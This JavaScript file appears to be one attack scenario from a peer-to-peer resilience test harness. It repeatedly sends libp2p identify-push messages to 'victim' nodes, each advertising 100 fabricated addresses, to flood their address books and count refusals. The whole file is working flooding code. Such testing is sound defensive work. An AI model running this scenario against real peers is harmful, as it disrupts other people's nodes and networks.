// C1: tells where it lives, elsewhere each time, so many times a second.

import { count, dial, identity, pace, peer, perform, ready, stream, task } from './peer.mjs'

const ADDRESSES = 100
let next = 0

// Private addresses that nobody has: a node that dials them must not get far.
function addresses () {
  return Array.from({ length: ADDRESSES }, () => {
    next++
    return `/ip4/127.${10 + (next >> 16) % 200}.${(next >> 8) % 256}.${next % 256}/tcp/${1 + next % 65_000}`
  })
}

await perform(async () => {
  const sources = await Promise.all(task.victims.map(async (victim) => {
    const node = await peer()
    return { node, connection: await dial(node, victim) }
  }))
  ready()
  await Promise.all(sources.map(({ node, connection }) => pace(task.rate, async () => {
    try {
      const push = await stream(connection, '/ipfs/id/push/1.0.0')
      push.send(identity(node, addresses()))
      push.close().catch(() => {})
      count('pushes')
    } catch { count('pushes_refused') }
  })))
})
